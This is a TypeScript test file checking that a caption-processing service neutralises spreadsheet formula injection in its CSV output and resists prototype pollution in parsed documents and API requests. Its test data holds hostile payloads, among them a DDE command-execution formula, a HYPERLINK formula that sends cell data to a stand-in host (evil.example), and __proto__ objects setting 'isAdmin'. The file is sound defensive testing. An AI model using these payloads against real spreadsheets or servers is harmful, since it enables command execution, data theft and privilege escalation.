import Papa from 'papaparse';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { formats } from '../../src/formats/formats.ts';
import { buildServer } from '../../src/server/build-server.ts';
import { findEmbedded, type OpenBackend } from '../services/backends.ts';
import { cleanDocument, cleanText } from '../services/read-document.ts';
import { writeManifest } from '../services/write-manifest.ts';

const embedded = await findEmbedded();

/** What spreadsheets reckon, or run a program for. */
const formulas = [
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("http://evil.example/?"&A1,"more")',
  '+1+cmd|x',
  '-2+3+cmd|x',
  '@SUM(1+9)*cmd|x',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
];
const reckoned = /^[\s\uFEFF]*[=+\-@＝＋－＠]/u;

describe('a table that is written', () => {
  test.each(formulas)('has no cell that a spreadsheet reckons: %j', async (formula) => {
    const manifest = await cleanDocument({
      headline: formula,
      entries: [
        {
          caption: `${formula} waits in Ostrand, May 4, 2026.`,
          credit: formula,
          byline: formula,
          photo: `${formula}.jpg`,
        },
        { caption: formula },
      ],
    });
    // As if everything that is read had come through: whatever a reader takes off, the writer trusts nobody.
    const everywhere = JSON.parse(JSON.stringify(manifest), (key, value: unknown) =>
      typeof value === 'string' && key !== 'id' ? formula : value,
    ) as typeof manifest;
    for (const each of [manifest, everywhere]) {
      const { data } = Papa.parse<string[]>(await writeManifest('csv', each), { delimiter: ',' });
      expect(data.length).toBeGreaterThan(2);
      for (const cell of data.flat()) expect(cell).not.toMatch(reckoned);
    }
    expect(
      JSON.stringify(Papa.parse(await writeManifest('csv', everywhere), { delimiter: ',' }).data),
    ).toContain(`'`);
  });
});

const poisons = ['__proto__', 'constructor', 'prototype'];

/** The same document with what would be everybody's prototype in it, in many places. */
function poison(place: string): string {
  const evil = `{"polluted":"yes","isAdmin":true,"type":"picture"}`;
  const own = place === 'constructor' ? `{"prototype":${evil}}` : evil;
  return `{"${place}":${own},"headline":"H","type":"composite","uri":"u:1","entries":[{"caption":"A seal waits in Ostrand. (AP)","${place}":${own}}],"associations":{"${place}":${own},"a":{"type":"picture","uri":"u:2","${place}":${own},"description_caption":"A gull."}},"data":{"items":[{"item":{"altids":{"itemid":"a","${place}":"b"},"${place}":${own}}}]},"content_elements":[{"type":"image","caption":"A.","additional_properties":{"${place}":${own}}}]}`;
}

/** What everybody has by now that nobody should have. */
function findPolluted(): readonly string[] {
  const found = [...Object.keys(Object.prototype), ...Object.keys(Array.prototype)];
  for (const name in {}) found.push(name);
  return found;
}

describe('nobody’s prototype is changed', () => {
  test.each(poisons.flatMap((place) => formats.map(({ name }) => [place, name] as const)))(
    'by %s in what the reader %s reads',
    async (place, format) => {
      await cleanText(poison(place), format).catch(() => null);
      await cleanText(`${place},caption,credit\nx,A seal waits in Ostrand.,AP\n`, format).catch(() => null);
      await cleanText(
        `<html><body><script type="application/json">${poison(place)}</script><script>window.data = ${poison(place)}</script><figure data-${place}="x"><img src="a.jpg"><figcaption>A seal.</figcaption></figure></body></html>`,
        format,
      ).catch(() => null);
      expect(findPolluted()).toEqual([]);
    },
  );

  describe('by a request', () => {
    let opened: OpenBackend;
    let server: FastifyInstance;
    beforeAll(async () => {
      opened = await embedded.open();
      server = await buildServer(opened.resources);
    });
    afterAll(async () => {
      await server.close();
      await opened.close();
    });

    test.each(poisons)('with %s in its body or its query', async (place) => {
      const body = `{"${place}":{"polluted":"yes"},"reason":"r","rules":{"words":{"${place}":{"added":["x"]}},"${place}":{"polluted":"yes"}},"who":"w","requestedBy":"w"}`;
      const headers = { 'content-type': 'application/json' };
      for (const url of [
        '/api/reruns',
        '/api/rules/versions',
        '/api/queues/polls/pause',
        '/api/tokens',
        '/api/login',
      ]) {
        const answer = await server.inject({ method: 'POST', url, headers, body });
        expect([url, answer.statusCode]).toEqual([url, 400]);
      }
      for (const query of [`${place}[polluted]=yes`, `${place}.polluted=yes`, `search=a&${place}=b`])
        expect((await server.inject(`/api/galleries?${query}`)).statusCode).toBeLessThan(500);
      expect(findPolluted()).toEqual([]);
    });
  });
});
